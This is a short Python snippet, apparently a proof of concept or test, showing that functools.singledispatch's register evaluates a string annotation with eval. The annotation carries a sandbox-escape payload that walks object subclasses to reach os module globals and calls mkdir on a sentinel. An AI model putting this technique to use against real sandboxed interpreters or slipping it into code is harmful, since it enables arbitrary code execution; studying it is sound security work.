# functools.singledispatch's register evaluates a string annotation with eval, in host code.
import functools
@functools.singledispatch
def show(x):
    return x
@show.register
def _(x: '[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "_wrap_close"][0].__init__.__globals__["mkdir"](SENTINEL) or int'):
    return x
